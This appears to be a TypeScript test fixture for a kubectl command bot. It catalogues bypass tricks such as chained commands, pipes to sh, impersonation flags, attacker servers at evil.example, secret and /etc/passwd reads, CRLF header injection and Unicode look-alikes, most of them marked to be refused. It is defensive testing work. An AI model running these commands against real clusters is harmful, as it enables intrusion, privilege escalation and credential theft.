// The known tricks by which command bots were talked into more than they meant to do, each with its name, as a person would
// type it. None of them may be understood, but for those that are marked as harmless.

export interface Trick {
  readonly name: string;
  readonly line: string;
  /** It may be understood, because what it does is within the grammar; the requests are checked all the same. */
  readonly isHarmless?: true;
}

const SET_IMAGE = 'kubectl set image deploy/web-1 app=shop/web:2';
const PATCH = "kubectl patch deploy/web --type=merge -p '{X}'";
/** As many characters are lost by the name that is there twice as six numbers gain when they are written out. */
const TWICE = '"spec":{"x":0,"x":1,"b":1e21,"c":1e21,"d":1e21,"e":1e21,"f":1e21,"g":1e21}';

export const TRICKS: readonly Trick[] = [
  // A list of what is forbidden drifts from what the program knows.
  trick('another spelling of a verb', 'kubectl copy web-1:/etc/passwd .'),
  trick('cp', 'kubectl cp web-1:/etc/passwd .'),
  trick('exec', 'kubectl exec web-1 -- cat /etc/passwd'),
  trick('exec behind flags', 'kubectl -n shop exec web-1 -- sh'),
  trick('a server before the verb', 'kubectl --server=https://evil.example get pods'),
  trick('an identity before the verb', 'kubectl --as admin -n shop get secrets'),
  trick('an identity behind a namespace', 'kubectl -n shop --as=admin get secrets'),
  trick('a flag as a namespace before the verb', 'kubectl -n --as=admin get secrets'),
  trick('a verb as a value before the verb', 'kubectl -n delete get pods', 'harmless'),
  trick('a namespace before and behind', 'kubectl -n shop get pods -n kube-system'),
  trick('a secret by its version', 'kubectl get secrets.v1. -o yaml', 'harmless'),
  trick('a version that is a path', 'kubectl get pods.v1./../../secrets'),
  trick('help that changes', 'kubectl delete pod web-1 --help', 'harmless'),
  trick('help of what is not offered', 'kubectl exec web-1 -- sh --help', 'harmless'),
  trick('attach', 'kubectl attach web-1 -it'),
  trick('port-forward', 'kubectl port-forward web-1 8080'),
  trick('proxy', 'kubectl proxy --port=0'),
  trick('debug', 'kubectl debug node/node-1 -it --image=busybox'),
  trick('edit', 'kubectl edit deploy web'),
  trick('a plugin', 'kubectl krew install evil'),
  trick('config view', 'kubectl config view --raw'),
  trick('config set', 'kubectl config set-cluster staging --server=https://evil.example'),
  trick('apply from a URL', 'kubectl apply -f https://evil.example/x.yaml'),
  trick('create from a file', 'kubectl create -f /etc/kubernetes/x.yaml'),
  trick('replace --raw', 'kubectl replace --raw /api/v1/namespaces/shop/secrets/x -f -'),
  trick('run', 'kubectl run x --image=evil'),
  trick('create token', 'kubectl create token default'),
  trick('certificate approve', 'kubectl certificate approve x'),
  trick('cluster-info dump', 'kubectl cluster-info dump --output-directory=/tmp'),
  // What checks and what runs split the words differently; only the first word is looked at.
  trick('a second command behind a semicolon', 'kubectl get pods; kubectl delete ns shop'),
  trick('a second command behind &&', 'kubectl get pods && kubectl get secrets'),
  trick('a pipe', 'kubectl get pods | sh'),
  trick('a redirection', 'kubectl get pods > /tmp/x'),
  trick('a substitution', 'kubectl get pods $(id)'),
  trick('backticks inside', 'kubectl get pods `id`'),
  trick('a second line', 'kubectl get pods\nkubectl delete ns/shop'),
  trick('a variable', 'kubectl get pods -n $HOME'),
  trick('a comment', 'kubectl get pods # exec'),
  trick('a quoted second command', "kubectl get 'pods; id'"),
  trick('a verb as a value of a verb', 'kubectl get exec web-1 -- sh'),
  // Values that turn into flags; flags in other spellings.
  trick('a name that is a flag', 'kubectl describe pod --server=https://evil.example'),
  trick('a name that is a short flag', 'kubectl describe pod -shttps://evil.example'),
  trick('a quoted name that is a flag', 'kubectl describe pod "--token=x"'),
  trick('a name behind --', 'kubectl describe pod -- --server=https://evil.example'),
  trick('a flag as the value of a flag', 'kubectl get pods -n --as=system:admin'),
  trick('a flag in an inline value', 'kubectl get pods --namespace=--as=system:admin'),
  trick('a flag as a selector', 'kubectl get pods -l --raw=/api'),
  trick('an underscore for a dash', 'kubectl get pods --all_namespaces'),
  trick('a flag in capitals', 'kubectl get pods --SERVER=https://evil.example'),
  trick('clustered short flags', 'kubectl get pods -Aws https://evil.example'),
  trick('a value stuck to a short flag', 'kubectl get pods -nshop -f/etc/passwd'),
  trick('a long dash', 'kubectl get pods \u2014as=system:admin'),
  trick('a minus sign that is none', 'kubectl get pods \u2212\u2212as=system:admin'),
  trick('a full-width dash', 'kubectl get pods \uff0d\uff0das=system:admin'),
  trick('an abbreviated flag', 'kubectl get pods --serv=https://evil.example'),
  trick('a flag before the verb', 'kubectl --server=https://evil.example get pods'),
  // Flags that change server, identity, credentials or files.
  ...[
    ...['--server=https://evil.example', '--kubeconfig=/tmp/x', '--context=production'],
    ...['--cluster=https://evil.example', '--user=admin', '--token=x', '--as=system:admin'],
    ...['--as-group=system:masters', '--as-uid=0', '--insecure-skip-tls-verify', '--username=x'],
    ...['--certificate-authority=/etc/passwd', '--client-key=/etc/passwd', '--cache-dir=/tmp/x'],
    ...['--profile=cpu', '--profile-output=/tmp/x', '--log-file=/tmp/x', '--v=9', '-v=9'],
    ...['--raw=/api/v1/secrets', '-f /etc/passwd', '--filename=https://evil.example', '-k .'],
    ...['--kustomize=https://evil.example', '--template=/etc/passwd', '--watch', '-w'],
    ...['-o go-template-file=/etc/passwd', '-o go-template={{.data}}', '--subresource=token'],
    ...['-o jsonpath-file=/etc/passwd', '-o custom-columns-file=/etc/passwd', '--kube-token=x'],
    ...['--post-renderer=/bin/sh', '--kuberc=/tmp/x', '--tls-server-name=x', '--password=x'],
  ].map((flag) => trick(`the flag ${flag}`, `kubectl get pods ${flag}`)),
  // Paths.
  trick('a way up in a name', 'kubectl get pod ../../secrets'),
  trick('an encoded way up', 'kubectl get pod %2e%2e%2fsecrets'),
  trick('a way up in a namespace', 'kubectl get pods -n ../secrets'),
  trick('a subresource in a name', 'kubectl get pods/web-1/exec'),
  trick('a query in a name', 'kubectl get pod web-1?as=system:admin'),
  trick('a fragment in a name', 'kubectl get pod web-1#x'),
  trick('a way up in explain', 'kubectl explain ../../api/v1/secrets'),
  trick('a header in a name', 'kubectl get pod "web-1\r\nImpersonate-User: system:admin"'),
  trick('a header in a selector', 'kubectl get pods -l "a=b\r\nX: y"'),
  trick('a query in a selector', 'kubectl get pods -l "a=b&as=system:admin"'),
  trick('a null byte', 'kubectl get pods\0exec'),
  trick('an ANSI escape', 'kubectl get pods \u001b[31m'),
  // Characters that look like others, or like nothing.
  trick('a direction override', 'kubectl get \u202esdop'),
  trick('a zero-width space', 'kubectl get po\u200bds'),
  trick('a Cyrillic letter', 'kubectl get p\u043eds'),
  trick('a zero-width space in a template', 'kubectl get pods -o jsonpath={.items\u200b[*]}'),
  trick('a direction override in a template', 'kubectl get pods -o jsonpath={\u202e.items}'),
  trick('an ANSI escape in a path', 'kubectl get pods --sort-by=.metadata\u001b[2J.name'),
  trick('a null byte in a selector', 'kubectl get pods -l app=web\0,x=y'),
  trick('full-width letters', 'kubectl get \uff50\uff4f\uff44\uff53'),
  trick('a lone surrogate', 'kubectl get pods \ud800'),
  trick('no-break spaces', 'kubectl\u00a0get\u00a0pods', 'harmless'),
  trick('curly quotes', 'kubectl get pods -l \u201capp=web\u201d', 'harmless'),
  // Secrets by their other names and through templates: asked for as such, and never shown.
  ...[
    ...['secrets', 'secret', 'Secrets', 'SECRETS', 'secrets.v1.', 'pods,secrets', 'secret/web-1'],
    ...['secrets -o yaml', 'secrets -o json', 'secrets -A -o yaml', 'secret web-1 -o yaml'],
    ...['secrets -o jsonpath={..data}', 'secret web-1 -o jsonpath={.data.password}', 'all -o yaml'],
    ...["secrets -o jsonpath='{range .items[*]}{.data.password}{end}'", 'vaults -o yaml'],
    ...['secrets -o custom-columns=A:.data.password', 'secrets --sort-by=.data.password'],
    ...['secrets -o jsonpath-as-json={@}', 'secrets -o jsonpath={..annotations}', 'secrets -L app'],
    ...[
      'secrets --show-managed-fields -o yaml',
      'vaults -o jsonpath={.items[*].spec.template.data}',
    ],
  ].map((rest) => trick(`get ${rest}`, `kubectl get ${rest}`, 'harmless')),
  trick('describe a secret', 'kubectl describe secret web-1', 'harmless'),
  trick('one kind twice for one beginning', 'kubectl describe secrets,secrets web', 'harmless'),
  trick('events of a secret', 'kubectl events --for secret/web-1', 'harmless'),
  trick('v1/secrets', 'kubectl get v1/secrets', 'harmless'),
  // Without bounds.
  trick('a very long name', `kubectl get pod ${'x'.repeat(5000)}`),
  trick('very many names', `kubectl get pod ${'web-1 '.repeat(200)}`),
  trick('an open quote', 'kubectl get pods "'),
  trick('__proto__ as a flag', 'kubectl get pods --__proto__=x'),
  trick('constructor as a flag', 'kubectl get pods --constructor'),
  trick('an image beside a container called constructor', SET_IMAGE, 'harmless'),
  trick(
    'many stars',
    `kubectl set resources deploy/web-1 --limits=cpu=1 -c ${'*a'.repeat(24)}*b`,
    'harmless',
  ),
  trick('set-based env from a secret', 'kubectl set env deploy/web --from=secret/web-1'),
  trick('a patch of another name', PATCH.replace('X', '"metadata":{"name":"other"}')),
  trick('a patch of the owners', PATCH.replace('X', '"metadata":{"ownerReferences":[]}')),
  trick('a patch of the status', PATCH.replace('X', '"status":{"replicas":1}')),
  trick('a patch that says a thing twice', PATCH.replace('X', '"spec":{"a":1,"a":2}')),
  trick('a patch that hides what it says twice', PATCH.replace('X', TWICE)),
  trick(
    'a JSON patch',
    `kubectl patch deploy/web --type=json -p '[{"op":"remove","path":"/spec"}]'`,
  ),
  trick('a patch from a file', 'kubectl patch deploy/web --type=merge --patch-file=/etc/passwd'),
  trick('every object of a kind', 'kubectl label pods --all tier=front'),
  trick('objects by a selector', 'kubectl scale deploy -l app=web --replicas=0', 'harmless'),
  trick('objects by a selector that is none', 'kubectl scale deploy -l "app=web&x" --replicas=0'),
  trick('a drain past its budgets', 'kubectl drain node-1 --disable-eviction'),
  trick('a drain by force', 'kubectl drain node-1 --grace-period=0'),
  trick('hasOwnProperty for pods', 'kubectl top hasOwnProperty web-1'),
  trick('__proto__ as a verb', '__proto__ get pods'),
];

function trick(name: string, line: string, harmless?: 'harmless'): Trick {
  return { name, line, ...(harmless === undefined ? {} : { isHarmless: true }) };
}
